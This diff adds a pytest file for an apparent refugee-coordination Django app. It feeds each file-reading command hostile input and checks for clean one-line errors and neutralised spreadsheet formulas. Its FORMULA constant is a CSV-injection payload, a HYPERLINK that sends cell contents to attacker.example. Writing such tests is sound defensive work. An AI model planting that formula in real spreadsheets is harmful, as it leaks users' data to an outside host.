@@ -1,0 +1,279 @@
+"""Every `refuge` command that reads a file, against files a careless or hostile sender makes.
+
+A bad file gets exactly one line on standard error that says what is wrong and where
+(the row and field for a CSV file, the record and field for PFIF), and exit status 1;
+never a traceback, never a half-written output. What a spreadsheet would run as a
+formula comes back out as text. The commands are found by walking every refuge
+command's arguments, so a new command that reads a file fails here until it is listed.
+"""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import re
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from django.core.management import ManagementUtility, get_commands, load_command_class
+
+from refuge.core.linkage.cli import parser as dedupe_parser
+
+HOSTILE = (
+    "empty", "binary", "not_utf8", "long_field", "absurd_number", "missing_column",
+    "duplicate_ids", "formula",
+)  # fmt: skip
+LONG = "Щ" * 200_000
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Открыть")'
+BINARY = bytes(range(256)) * 40
+
+# Arguments that name a file the command reads, and those it writes.
+READERS = {
+    "dedupe input", "place households", "place shelters", "place travel_matrix",
+    "place quotas", "pfif import file", "createuser password_file", "restore input",
+}  # fmt: skip
+WRITERS = {"dedupe out", "dedupe pairs", "place out", "pfif export out", "backup output"}
+# A command that hands its arguments to a parser of its own: walk that one instead.
+OWN_PARSERS: dict[str, Callable[[], argparse.ArgumentParser]] = {"dedupe": dedupe_parser}
+DJANGO_OPTIONS = {"settings", "pythonpath"}  # every command has them; they name no data file
+FILE_WORDS = re.compile(
+    r"file|path|csv|input|output|^out$|^pairs$|households|shelters|matrix|quotas"
+)
+
+
+def _arguments(
+    prefix: str, parser: argparse.ArgumentParser
+) -> Iterator[tuple[str, argparse.Action]]:
+    for action in parser._actions:
+        if isinstance(action, argparse._SubParsersAction):
+            for name, sub in action.choices.items():
+                yield from _arguments(f"{prefix} {name}", sub)
+        else:
+            yield f"{prefix} {action.dest}", action
+
+
+def file_arguments() -> set[str]:
+    found = set()
+    for name, app in get_commands().items():
+        if not app.startswith("refuge"):
+            continue
+        if name in OWN_PARSERS:
+            parser = OWN_PARSERS[name]()
+        else:
+            parser = load_command_class(app, name).create_parser("refuge", name)
+        for label, action in _arguments(name, parser):
+            if action.dest in DJANGO_OPTIONS:
+                continue
+            if action.nargs == argparse.REMAINDER:
+                raise AssertionError(f"{label}: list the parser behind it in OWN_PARSERS")
+            if (
+                action.type is Path
+                or isinstance(action.type, argparse.FileType)
+                or (FILE_WORDS.search(action.dest))
+            ):
+                found.add(label)
+    return found
+
+
+def test_every_file_argument_of_every_command_is_listed() -> None:
+    assert file_arguments() == READERS | WRITERS
+
+
+def test_every_command_module_that_opens_a_file_is_listed() -> None:
+    source = Path(__file__).parents[1] / "src" / "refuge"
+    readers = {label.split()[0] for label in READERS}
+    pattern = re.compile(r"open\(|read_bytes|read_text|iterparse|np\.load|json\.load")
+    opening = {
+        path.stem
+        for path in source.glob("*/management/commands/*.py")
+        if pattern.search(path.read_text(encoding="utf-8"))
+    } | {
+        {"linkage": "dedupe", "placement": "place"}[path.parent.name]
+        for path in source.glob("core/*/cli.py")
+    }
+    assert opening - readers - {"serve"} == set()
+
+
+# What each hostile kind looks like for a CSV file with these columns and a good row.
+def csv_file(columns: list[str], good: list[str], kind: str, id_column: int = 0) -> bytes:
+    def text(rows: list[list[str]]) -> bytes:
+        lines = [",".join(columns)] + [",".join(_quoted(v) for v in row) for row in rows]
+        return ("\n".join(lines) + "\n").encode("utf-8")
+
+    other = list(good)
+    other[id_column] = good[id_column] + "-2"
+    if kind == "empty":
+        return b""
+    if kind == "binary":
+        return BINARY
+    if kind == "not_utf8":
+        return text([good, other]).replace("Курск".encode(), "Курск".encode("cp1251"))
+    if kind == "long_field":
+        return text([good, [*other[:1], LONG, *other[2:]]])
+    if kind == "absurd_number":
+        absurd = [v if not _numeric(v) or i == id_column else "9" * 30 for i, v in enumerate(other)]
+        return text([good, absurd])
+    if kind == "missing_column":
+        return (
+            ",".join(columns[1:]) + "\n" + ",".join(_quoted(v) for v in good[1:]) + "\n"
+        ).encode()
+    if kind == "duplicate_ids":
+        return text([good, good])
+    if kind == "formula":
+        return text([good, [FORMULA, *other[1:]]])
+    raise AssertionError(kind)
+
+
+def _numeric(value: str) -> bool:
+    return bool(re.fullmatch(r"[\d-]+", value))  # whole numbers and dates, not coordinates
+
+
+def _quoted(value: str) -> str:
+    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value
+
+
+HOUSEHOLDS = (["household_id", "size", "origin_lat", "origin_lon", "needs"],
+              ["Курск-1000001", "8", "51.3037", "35.1203", "wheelchair"])  # fmt: skip
+SHELTERS = (["shelter_id", "capacity", "lat", "lon", "features", "region"],
+            ["ПВР Курск-1", "120", "51.7304", "36.1926", "wheelchair", "Курск"])  # fmt: skip
+PFIF_HEAD = b"<pfif:pfif xmlns:pfif='http://zesty.ca/pfif/1.4'>"
+
+
+def pfif_person(record_id: str, **fields: str) -> bytes:
+    entry = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
+    values = {"person_record_id": record_id, "entry_date": entry, **fields}
+    inner = "".join(f"<pfif:{k}>{v}</pfif:{k}>" for k, v in values.items() if v is not None)
+    return f"<pfif:person>{inner}</pfif:person>".encode()
+
+
+def pfif_file(kind: str) -> bytes:
+    good = pfif_person("poisk.example/1000001", given_name="Тамара", family_name="Курская")
+    second: dict[str, bytes] = {
+        "long_field": pfif_person("poisk.example/1000002", given_name=LONG),
+        "absurd_number": pfif_person("poisk.example/1000002", age="9" * 30),
+        "missing_column": pfif_person("poisk.example/1000002", entry_date=None),  # type: ignore[arg-type]
+        "duplicate_ids": good,
+        "formula": pfif_person("poisk.example/1000002", given_name=FORMULA.replace("&", "&amp;")),
+        "not_utf8": pfif_person("poisk.example/1000002", given_name="Курск").replace(
+            "Курск".encode(), "Курск".encode("cp1251")
+        ),
+    }
+    if kind == "empty":
+        return b""
+    if kind == "binary":
+        return BINARY
+    return PFIF_HEAD + good + second[kind] + b"</pfif:pfif>"
+
+
+def password_file(kind: str) -> bytes:
+    return {
+        "empty": b"", "binary": BINARY, "not_utf8": "Пароль-Курск-2024".encode("cp1251"),
+        "long_field": LONG.encode(), "absurd_number": b"9" * 30,
+        "missing_column": b"\n", "duplicate_ids": b"Pass-1000001\nPass-1000001\n",
+        "formula": FORMULA.encode(),
+    }[kind]  # fmt: skip
+
+
+# Where the message must point: the row (the header is row 1) or the record, and the field.
+WHERE = {
+    **{(cmd, "long_field"): r"row 3.*200,000 characters" for cmd in ("dedupe", "place")},
+    **{(cmd, "absurd_number"): r"row 3" for cmd in ("dedupe", "place")},
+    **{(cmd, "duplicate_ids"): r"row 3" for cmd in ("dedupe", "place")},
+    ("pfif", "long_field"): r"person poisk.example/1000002, given_name: 200,000 characters",
+    ("pfif", "absurd_number"): r"person poisk.example/1000002, age",
+    ("pfif", "missing_column"): r"person poisk.example/1000002: entry_date is missing",
+    ("createuser", "long_field"): r"--password-file",
+}
+
+
+# (reader, hostile kind) pairs that are good input for that reader: they must succeed.
+ACCEPTED = {
+    ("pfif import file", "duplicate_ids"),  # the newer copy of a record wins
+    ("pfif import file", "formula"),  # XML, stored as typed, never a spreadsheet cell
+    ("createuser password_file", "absurd_number"),
+    ("createuser password_file", "duplicate_ids"),  # a two-line password, first line kept whole
+    ("createuser password_file", "formula"),
+    # Ids such as =HYPERLINK(…) are read as typed and written back neutralised.
+    ("dedupe input", "formula"),
+    ("place households", "formula"),
+    ("place shelters", "formula"),
+    ("place travel_matrix", "formula"),
+}
+
+
+def command_line(reader: str, kind: str, tmp: Path) -> list[str]:
+    def put(name: str, content: bytes) -> str:
+        (tmp / name).write_bytes(content)
+        return str(tmp / name)
+
+    households = csv_file(*HOUSEHOLDS, kind if reader == "place households" else "formula")
+    shelters = csv_file(*SHELTERS, kind if reader == "place shelters" else "formula")
+    place = ["place", "--households", put("h.csv", households),
+             "--shelters", put("s.csv", shelters), "--out", str(tmp / "a.csv")]  # fmt: skip
+    if reader == "dedupe input":
+        people = csv_file(["id", "family_name", "given_name", "birth_date", "settlement"],
+                          ["1000001", "Курская", "Тамара", "1948-03-14", "Суджа"], kind)  # fmt: skip
+        return ["dedupe", put("in.csv", people), "--out", str(tmp / "clusters.csv"),
+                "--pairs", str(tmp / "pairs.csv")]  # fmt: skip
+    if reader in ("place households", "place shelters"):
+        return place
+    if reader == "place travel_matrix":
+        good = ["Курск-1000001", "ПВР Курск-1", "95"]
+        matrix = csv_file(["household_id", "shelter_id", "minutes"], good, kind)
+        return [*place, "--travel-matrix", put("m.csv", matrix)]
+    if reader == "place quotas":
+        return [
+            *place,
+            "--quotas",
+            put("q.csv", csv_file(["region", "max_persons"], ["Курск", "5000"], kind)),
+        ]
+    if reader == "pfif import file":
+        return ["pfif", "import", put("feed.xml", pfif_file(kind))]
+    if reader == "createuser password_file":
+        return ["createuser", "coordinator-1000001", "--role", "national_coordinator",
+                "--password-file", put("password.txt", password_file(kind))]  # fmt: skip
+    if reader == "restore input":
+        return ["restore", put("backup.refuge", csv_file(["id"], ["1000001"], kind)), "--force"]
+    raise AssertionError(f"{reader}: say how to call it")
+
+
+@pytest.fixture
+def operation_only(transactional_db):  # type: ignore[no-untyped-def]
+    from refuge.geo.models import Region
+    from refuge.operations.models import Operation
+
+    region = Region.objects.create(
+        code="RU-KRS", name_en="Kursk Oblast", name_ru="Курская область", country="RU"
+    )
+    Operation.objects.create(slug="kursk-2024", name="Курск 2024", affected_region=region,
+                             started_at=datetime(2024, 8, 6, tzinfo=UTC))  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+@pytest.mark.parametrize("reader", sorted(READERS))
+def test_a_hostile_file_gets_one_line_and_exit_1(
+    reader: str, kind: str, tmp_path: Path, capfd: pytest.CaptureFixture[str], operation_only: None
+) -> None:
+    argv = command_line(reader, kind, tmp_path)
+    try:
+        ManagementUtility(["refuge", *argv]).execute()
+        status = 0
+    except SystemExit as exit_:
+        status = int(exit_.code or 0)
+    err = capfd.readouterr().err.strip()
+    if (reader, kind) in ACCEPTED:
+        assert status == 0, err
+    else:
+        assert status == 1, f"exit {status}: {err[:300]}"
+        assert len(err.splitlines()) == 1 and "Traceback" not in err, err[:2000]
+        assert len(err) < 400, err[:400]
+        assert re.search(WHERE.get((reader.split()[0], kind), ""), err), err
+    for written in ("clusters.csv", "pairs.csv", "a.csv"):
+        if (tmp_path / written).exists():
+            assert status == 0  # nothing is written for a refused file
+            with (tmp_path / written).open(encoding="utf-8", newline="") as f:
+                cells = [cell for row in csv.reader(f) for cell in row]
+            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
+            assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.]+", c)]
